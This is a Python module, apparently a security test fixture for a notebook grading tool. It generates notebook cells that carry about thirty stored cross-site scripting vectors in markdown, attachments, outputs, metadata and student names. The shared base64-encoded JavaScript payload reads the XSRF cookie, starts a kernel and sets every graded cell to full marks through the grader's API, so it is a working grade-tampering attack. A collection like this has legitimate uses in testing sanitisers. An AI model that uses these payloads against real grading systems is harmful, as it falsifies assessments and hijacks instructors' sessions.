"""Submissions that try to run something in the browser of whoever reads them."""

from __future__ import annotations

import base64
from typing import Any

# Counts its runs; on formgrader's page it starts a kernel and gives every graded cell all its points.
RUN = """(async () => {
  window.ran = (window.ran || 0) + 1;
  const token = (document.cookie.match(/_xsrf=([^;]*)/) || [])[1];
  const headers = {"X-XSRFToken": token, "Content-Type": "application/json"};
  fetch("/api/kernels", {method: "POST", headers, body: "{}"});
  const id = (location.pathname.split("/submissions/")[1] || "").split("/")[0];
  const grades = await (await fetch("/formgrader/api/grades?submission_id=" + id)).json();
  for (const grade of grades)
    fetch("/formgrader/api/grade/" + grade.id,
          {method: "PUT", headers, body: JSON.stringify({manual_score: grade.max_score})});
})()"""
JS = f"eval(atob('{base64.b64encode(RUN.encode()).decode()}'))"  # without double quotes, brackets or spaces
INNER = base64.b64encode(f"<script>parent.{JS}</script>".encode()).decode()

TEXTS = {
    "script": f"<script>{JS}</script>",
    "script in a line": f"text <script>{JS}</script> text",
    "image": f'<img src="x" onerror="{JS}">',
    "svg": f'<svg onload="{JS}"></svg>',
    "script in svg": f"<svg><script>{JS}</script></svg>",
    "frame": f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    "frame of data": f'<iframe src="javascript:{JS}"></iframe>',
    "object": f'<object data="data:text/html;base64,{INNER}"></object>',
    "link": f'<a href="javascript:{JS}">press here</a>',
    "link with a tab": f'<a href="java&#9;script:{JS}">press here</a>',
    "markdown link": f"[press here](javascript:{JS})",
    "reference link": f"[press here]\n\n[press here]: javascript:{JS}",
    "details": f'<details open ontoggle="{JS}"><summary>x</summary>y</details>',
    "focus": f'<input autofocus onfocus="{JS}">',
    "form": f'<form action="javascript:{JS}"><button>press here</button></form>',
    "button": f'<button onclick="{JS}">press here</button>',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    "video": f'<video><source onerror="{JS}"></video>',
    "style": f'<style onload="{JS}">p {{}}</style>',
    "math that changes when read twice": (
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={JS}&gt;">'
    ),
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={JS}>"></noscript>',
    "mathjax settings": f'<script type="text/x-mathjax-config">{JS}</script>',
    "heading": f'# <img src="x" onerror="{JS}">',
    "formula": f'$<img src="x" onerror="{JS}">$',
    "mermaid": f"```mermaid\n</pre><script>{JS}</script>\n```",
    "fence": f'```"><script>{JS}</script>\ncode\n```',
    "table": f'| a |\n|---|\n| <img src="x" onerror="{JS}"> |',
    "open end": f'<img src="x" onerror="{JS}" alt="',
    "handler of the page": f'<span class="glyphicon name-hidden" onclick="{JS}">press here</span>',
}
PICTURES = {
    "attachment that ends its quotes": {"image/png": f'"><img src="x" onerror="{JS}">'},
    "attachment of another type": {f'text/html"><script>{JS}</script>': "AAAA"},
    "drawing": {
        "image/svg+xml": base64.b64encode(
            f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{JS}\"/>".encode()
        ).decode()
    },
}
NAMES = {"first_name": f"<img src=x onerror={JS}>", "last_name": f"</a><script>{JS}</script>"}
CODE = f"# </pre></div><script>{JS}</script>"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def text_cell(source: str, **more: Any) -> dict[str, Any]:
    """A text cell's JSON."""
    return {"cell_type": "markdown", "source": source, "metadata": {}, **more}


def code_cell(source: str) -> dict[str, Any]:
    """A code cell's JSON."""
    return {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None}


def cells() -> list[dict[str, Any]]:
    """Every attempt in a cell of its own."""
    texts = [text_cell(source) for source in TEXTS.values()]
    pictures = [
        text_cell("![a picture](attachment:a.png)", attachments={"a.png": kinds})
        for kinds in PICTURES.values()
    ]
    output = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": TEXTS["script"], "application/javascript": JS},
    }
    code = {"cell_type": "code", "source": CODE, "metadata": {"tags": [f'"><script>{JS}</script>']}}
    raw = {"cell_type": "raw", "source": TEXTS["script"], "metadata": {"raw_mimetype": "text/html"}}
    return [*texts, *pictures, {**code, "outputs": [output], "execution_count": None}, raw]
